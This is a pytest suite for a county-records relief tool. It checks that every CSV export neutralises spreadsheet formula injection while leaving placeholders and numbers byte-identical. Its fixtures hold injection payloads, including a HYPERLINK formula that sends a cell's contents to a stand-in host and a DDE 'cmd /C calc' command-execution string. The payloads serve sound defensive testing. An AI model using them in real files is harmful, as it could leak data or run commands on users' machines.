"""Formula-safe CSV (issue #13.3): every CSV relief writes renders a value a spreadsheet would
evaluate as text, through one writer (jobs/county/csv.py); the reference format's ``-``
placeholders and plain numbers stay byte-identical."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from relief.jobs.audit.diff import diff_versions, write_diff_csv
from relief.jobs.county.csv import CsvStyle, formula_safe, go_fields, write_csv
from relief.jobs.county.gogen import ALL_RESULTS, ALL_RESULTS_CONDENSED, PROP64_RESULTS
from relief.jobs.county.packet import BULK_MOTION, INDEX_CSV, WORKLIST, packet
from relief.jobs.county.pull import PullFormat, pull
from relief.transforms.columns import CODE_SECTION, POSSIBLE_OTHER_P64
from tests.helpers.county_tables import SUBJECTS, fresno_rows, write_county

# What an attacker (or a careless clerk) types into a name, a comment or a code section.
HOSTILE_NAMES = {
    "S1": '=HYPERLINK("http://x.example/?"&A2,"click")',
    "S2": "+SUM(1,2),JOSE",
    "S3": "-2+3,PAT",
    "S4": "@SUM(A1:A9),ANN",
}
HOSTILE_COMMENT = "=cmd|' /C calc'!A0 11359 HS"
HOSTILE_SECTION = " =1+1 HS"  # a leading space does not stop a spreadsheet


def hostile_rows() -> list[dict[str, Any]]:
    rows = fresno_rows()
    for row in rows:
        if row["COMMENT_TEXT"]:
            row["COMMENT_TEXT"] = row[POSSIBLE_OTHER_P64] = HOSTILE_COMMENT
    rows[10][CODE_SECTION] = HOSTILE_SECTION  # S4's granted 11357(a), new in version 1
    return rows


@pytest.fixture
def warehouse(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for subject, name in HOSTILE_NAMES.items():
        monkeypatch.setitem(SUBJECTS[subject], "name", name)
    root = tmp_path / "warehouse"
    write_county(root, "fresno", hostile_rows()[:3], "run-1")
    write_county(root, "fresno", hostile_rows(), "run-2")
    return root


def evaluated(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (OWASP: = + - @ TAB CR first, also
    after leading spaces; a plain number or a lone '-' is data.)"""
    if re.fullmatch(r"\s*(-|[+-]?\d+(\.\d*)?([eE][+-]?\d+)?)\s*", cell):
        return False
    return bool(re.match(r"[\t\r]|\s*[=+\-@]", cell))


def read_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def every_csv(warehouse: Path, out: Path) -> dict[str, Path]:
    files: dict[str, Path] = {}
    files["pull csv"] = pull(warehouse, "fresno", out / "csv", PullFormat.CSV).files[0]
    for path in pull(warehouse, "fresno", out / "gogen", PullFormat.GOGEN).files:
        if path.suffix == ".csv":
            files[f"gogen {path.name}"] = path
    packet(warehouse, "fresno", out / "packet")
    for name in (BULK_MOTION, INDEX_CSV, WORKLIST):
        files[f"packet {name}"] = out / "packet" / name
    diff = diff_versions(warehouse, "fresno", 0, 1)
    files["audit diff"] = write_diff_csv(diff, out / "diff.csv")
    return files


def test_every_csv_writes_formula_like_names_comments_and_sections_as_text(
    warehouse: Path, tmp_path: Path
):
    files = every_csv(warehouse, tmp_path / "out")
    assert len(files) == 8
    for label, path in files.items():
        cells = read_cells(path)
        dangerous = [c for c in cells if evaluated(c)]
        assert dangerous == [], label
        # Nothing is lost: each hostile value is there, as text behind a single quote.
        planted = [*HOSTILE_NAMES.values(), HOSTILE_COMMENT, HOSTILE_SECTION]
        found = {v for v in planted if "'" + v in cells}
        assert found, label
    pulled = read_cells(files["pull csv"])
    for value in [*HOSTILE_NAMES.values(), HOSTILE_COMMENT, HOSTILE_SECTION]:
        assert "'" + value in pulled, value
    assert "'" + HOSTILE_COMMENT in read_cells(files[f"gogen {ALL_RESULTS}"])
    assert "'" + HOSTILE_NAMES["S3"] in read_cells(files[f"gogen {ALL_RESULTS_CONDENSED}"])
    assert "'" + HOSTILE_SECTION in read_cells(files["audit diff"])
    assert "'" + HOSTILE_NAMES["S4"] in read_cells(files[f"packet {INDEX_CSV}"])


def test_gogen_placeholders_and_negative_numbers_stay_as_the_reference_writes_them(
    warehouse: Path, tmp_path: Path
):
    pull(warehouse, "fresno", tmp_path / "g", PullFormat.GOGEN)
    text = (tmp_path / "g" / PROP64_RESULTS).read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")  # the reference's files carry no byte-order mark
    # S3's blank conviction date: '-' placeholders and -1.0, written bare.
    assert ",-,-,-,-,-1.0,19.4,2,1,0,1,0,Deceased," in text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("-", "-"),
        ("  -  ", "  -  "),
        ("-1.0", "-1.0"),
        ("+3", "+3"),
        ("-2.5e3", "-2.5e3"),
        ("11357-11360", "11357-11360"),
        ("O'BRIEN, PAT", "O'BRIEN, PAT"),
        ("a=b", "a=b"),
    ],
)
def test_formula_safe_marks_what_a_spreadsheet_evaluates_and_nothing_else(value: str, written: str):
    assert formula_safe(pa.array([value])).to_pylist() == [written]


def test_formula_safe_keeps_nulls_and_leaves_non_text_to_the_writer():
    assert formula_safe(pa.array(["=x", None, ""])).to_pylist() == ["'=x", None, ""]
    assert go_fields(pa.array([-3, None], pa.int64())).to_pylist() == ["-3", ""]
    assert go_fields(pa.array(["=a,b", "", None])).to_pylist() == ['"\'=a,b"', "", ""]


def test_spreadsheet_csv_keeps_empty_text_and_nulls_apart_behind_a_bom(tmp_path: Path):
    table = pa.table({"name": ["=x", "", None, "a,b"], "n": [-1, None, 2, 3]})
    path = write_csv(tmp_path / "t.csv", table, CsvStyle.SPREADSHEET)
    assert path.read_bytes() == (b'\xef\xbb\xbf"name","n"\n"\'=x",-1\n"",\n,2\n"a,b",3\n')
    plain = write_csv(tmp_path / "p.csv", table, CsvStyle.PLAIN)
    assert plain.read_bytes() == path.read_bytes()[3:]
